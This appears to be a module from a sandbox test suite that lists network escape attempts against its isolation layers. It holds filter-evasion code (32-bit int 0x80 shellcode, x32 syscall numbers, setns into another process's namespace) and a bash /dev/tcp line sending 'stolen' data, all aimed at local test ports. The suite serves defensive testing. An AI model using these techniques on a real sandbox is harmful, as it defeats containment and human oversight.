"""Attacks that talk to somebody: sockets of every kind, by every way to make one."""

from evolve.testing.hostile.attack import BARE, Attack, Family, Judge, Need, is_claimed, is_evident, steps
from sandbox.layers import Layer

_FILTER = (Layer.SECCOMP,)
_BOTH = (Layer.SECCOMP, Layer.NETWORK_NAMESPACE)


def _network(
    name: str,
    text: str,
    *,
    stopped_by: tuple[str, ...] = _BOTH,
    needs: tuple[Need, ...] = (),
    breached: Judge = is_evident,
) -> Attack:
    return Attack(name=name, family=Family.NETWORK, text=text, stopped_by=stopped_by, needs=needs, breached=breached)


_CONNECT = """
def connect(address, family=socket.AF_INET, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as server:
        server.settimeout(0.5)
        server.connect(address)
        server.sendall(b"stolen")
        return "connected"
"""
_TCP = "('127.0.0.1', world['tcp_port'])"

_IN_THREAD = f"""
from prelude import *
{_CONNECT}
def attack(world):
    result = {{}}
    thread = threading.Thread(target=lambda: result.update(tries(lambda: connect({_TCP}))))
    thread.start()
    thread.join()
    return result
"""

_RAW_SYSTEM_CALL = """
def address(world):
    return struct.pack("=H", 2) + struct.pack("!H", world["tcp_port"]) + bytes([127, 0, 0, 1]) + bytes(8)
def raw(world):
    server = syscall("socket", 2, 1, 0)
    return str(syscall("connect", server, address(world), 16))
"""

# `int 0x80` enters the kernel with 32-bit numbers, which a filter for 64-bit numbers would read wrongly.
_INT80 = """
from prelude import *
def attack(world):
    if not IS_X86:
        return {"failed": ["another processor"]}
    low = libc.mmap
    low.restype = ctypes.c_void_p
    place = low(None, ctypes.c_size_t(4096), 3, 0x62, -1, ctypes.c_long(0))  # below 4 GiB: MAP_32BIT
    code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    code.write(b"\\x53\\x89\\xf8\\x89\\xf3\\x89\\xd1\\xcd\\x80\\x5b\\xc3")  # eax, ebx, ecx from the arguments
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(
        ctypes.addressof(ctypes.c_char.from_buffer(code)))
    def socketcall(which, *words):
        data = struct.pack(f"<{len(words)}I", *words)
        ctypes.memmove(place, data, len(data))
        return call(102, which, place)
    def steal():
        server = socketcall(1, 2, 1, 0)
        assert server >= 0, os.strerror(-server)
        address = struct.pack("=H", 2) + struct.pack("!H", world["tcp_port"]) + bytes([127, 0, 0, 1]) + bytes(8)
        ctypes.memmove(place + 512, address, 16)
        status = socketcall(3, server, place + 512, 16)
        assert status == 0, os.strerror(-status)
        return "connected"
    return tries(steal)
"""

_X32 = """
from prelude import *
def attack(world):
    return tries(lambda: str(syscall(0x40000000 | 41, 2, 1, 0)))
"""

_SHELL = """
import subprocess
def run(*command):
    return subprocess.run(command, check=True, capture_output=True, timeout=20).returncode == 0
def python(world):
    text = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])))"
    return run(sys.executable, "-c", text, str(world["tcp_port"]))
"""

_LISTEN = """
def serve():
    server = socket.create_server(("0.0.0.0", 0))
    return server.getsockname()[1]
"""

_FAST_OPEN = """
def send(world):
    server = socket.socket()
    return server.sendto(b"stolen", 0x20000000, ("127.0.0.1", world["tcp_port"]))
"""

_UDP = """
def send(world):
    return socket.socket(type=socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", world["udp_port"]))
"""

_HTTP = """
import urllib.request
def fetch(world):
    return urllib.request.urlopen(f"http://127.0.0.1:{world['tcp_port']}/?stolen", timeout=10).read()
"""

_NETLINK = """
def interfaces():
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    link.send(struct.pack("=IHHIIB3x", 20, 18, 0x301, 1, 0, 0))
    return len(link.recv(65536))
"""

_PROC_NET = """
def ports(world):
    found = [line for line in read("/proc/net/tcp").splitlines() if f":{world['tcp_port']:04X} " in line]
    return found[0]
"""

_SETNS = """
import urllib.request
def join(world):
    syscall("setns", syscall("pidfd_open", world["engine_pid"], 0), 0x40000000)
    return connect(("127.0.0.1", world["tcp_port"]))
"""

_RIGHTS = """
def pass_descriptor():
    ours, theirs = socket.socketpair()
    socket.send_fds(ours, [b"x"], [0])
    return len(socket.recv_fds(theirs, 1, 1)[1])
"""

ATTACKS = (
    _network("tcp_connect", steps(f"connect({_TCP})", definitions=_CONNECT)),
    _network("tcp_in_a_thread", _IN_THREAD),
    _network("tcp_fast_open", steps("send(world)", definitions=_FAST_OPEN)),
    _network("multipath_tcp", steps(f"connect({_TCP}, protocol=262)", definitions=_CONNECT), needs=(Need.MPTCP,)),
    _network("tcp_listen", steps("serve()", definitions=_LISTEN), breached=is_claimed, stopped_by=_FILTER),
    _network("udp_send", steps("send(world)", definitions=_UDP)),
    _network("http_fetch", steps("fetch(world)", definitions=_HTTP)),
    _network(
        "unix_socket_by_path",
        steps("connect(world['unix_path'], socket.AF_UNIX)", definitions=_CONNECT),
        stopped_by=(Layer.SECCOMP, Layer.MOUNT_NAMESPACE),
    ),
    _network(
        "unix_socket_by_abstract_name",
        steps("connect('\\0' + world['abstract_name'], socket.AF_UNIX)", definitions=_CONNECT),
    ),
    _network(
        "pass_a_descriptor", steps("pass_descriptor()", definitions=_RIGHTS), breached=is_claimed, stopped_by=_FILTER
    ),
    _network(
        "vsock_to_the_host",
        steps("socket.socket(40, socket.SOCK_STREAM).fileno()"),
        breached=is_claimed,
        stopped_by=_FILTER,
        needs=(Need.VSOCK,),
    ),
    _network("socket_by_raw_system_call", steps("raw(world)", definitions=_RAW_SYSTEM_CALL)),
    _network(
        "raw_ip_packets",
        steps("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).fileno()"),
        breached=is_claimed,
        needs=(Need.ROOT,),
        stopped_by=(Layer.SECCOMP, Layer.OWN_UID),
    ),
    _network(
        "packet_sniffer",
        steps("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300).fileno()"),
        breached=is_claimed,
        needs=(Need.ROOT,),
        stopped_by=(Layer.SECCOMP, Layer.OWN_UID),
    ),
    _network("netlink_routes", steps("interfaces()", definitions=_NETLINK), breached=is_claimed, stopped_by=_FILTER),
    _network(
        "kernel_crypto_socket",
        steps("socket.socket(38, socket.SOCK_SEQPACKET).fileno()"),
        breached=is_claimed,
        stopped_by=_FILTER,
        needs=(Need.KERNEL_CRYPTO,),
    ),
    _network("socket_by_int80", _INT80, needs=(Need.INT80,)),
    Attack(
        name="socket_by_x32_abi",
        family=Family.NETWORK,
        text=_X32,
        stopped_by=_FILTER,
        breached=is_claimed,
        shown_in=None,
        limit_only="most kernels are built without the x32 numbers; the filter kills them where they exist",
    ),
    _network(
        "another_program_connects",
        steps(
            "python(world)",
            "run('/bin/bash', '-c', f'echo stolen > /dev/tcp/127.0.0.1/{world[\"tcp_port\"]}')",
            definitions=_SHELL,
        ),
    ),
    _network(
        "open_ports_from_proc",
        steps("ports(world)", definitions=_PROC_NET),
        breached=is_claimed,
        stopped_by=(Layer.LANDLOCK, Layer.MOUNT_NAMESPACE),
    ),
    Attack(
        name="join_the_engines_network",
        family=Family.NETWORK,
        text=steps("join(world)", definitions=_CONNECT + _SETNS),
        stopped_by=(Layer.SECCOMP, Layer.PID_NAMESPACE, Layer.OWN_UID),
        shown_in=BARE,
        needs=(Need.ROOT,),
    ),
)
